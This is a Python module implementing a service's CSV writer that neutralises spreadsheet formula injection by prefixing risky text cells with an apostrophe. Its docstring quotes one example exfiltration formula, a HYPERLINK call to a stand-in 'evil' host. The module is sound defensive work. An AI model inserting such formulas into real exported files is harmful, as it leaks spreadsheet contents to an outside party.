"""The one CSV writer of every file the service writes: results exports, downloads, invite
links, MTurk-format batches (tests/test_boundaries.py: no other module calls `csv.writer`
or `csv.DictWriter`).

OWASP "CSV injection": a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return is a formula to a spreadsheet (`=HYPERLINK("http://evil","x")` is a link that
leaks whatever the sheet holds). Every text cell written here that begins with one is
written with a leading `'`, which a spreadsheet shows as text and hides; numbers are
written as they are (a negative number is data, not a formula). What a cell means to a
program reading the file is unchanged but for that apostrophe, which `csv_text` documents.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any, TextIO

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_text(v: str) -> str:
    """`v` as a CSV cell that no spreadsheet runs as a formula."""
    return "'" + v if v.startswith(FORMULA_START) else v


def _cell(v: Any) -> Any:
    return "'" + v if isinstance(v, str) and v.startswith(FORMULA_START) else v


class CsvWriter:
    """`csv.writer` whose text cells are neutralised (`None` is an empty cell)."""

    def __init__(self, out: TextIO, *, lineterminator: str = "\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([_cell(v) for v in row])

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        self._writer.writerows([_cell(v) for v in row] for row in rows)


class DictCsvWriter:
    """`csv.DictWriter` whose text cells are neutralised; a missing key is an empty cell.
    `extras="ignore"` leaves out keys that are not `fields` (else they are an error)."""

    def __init__(
        self,
        out: TextIO,
        fields: Sequence[str],
        *,
        lineterminator: str = "\n",
        extras: str = "raise",
    ) -> None:
        self._writer = csv.DictWriter(
            out, list(fields), lineterminator=lineterminator, extrasaction=extras
        )

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({k: _cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def write_csv(
    fields: Sequence[str], rows: Iterable[Mapping[str, Any]], *, lineterminator: str = "\r\n"
) -> str:
    """A whole CSV file: a header of `fields`, then `rows`."""
    out = io.StringIO()
    writer = DictCsvWriter(out, fields, lineterminator=lineterminator)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()
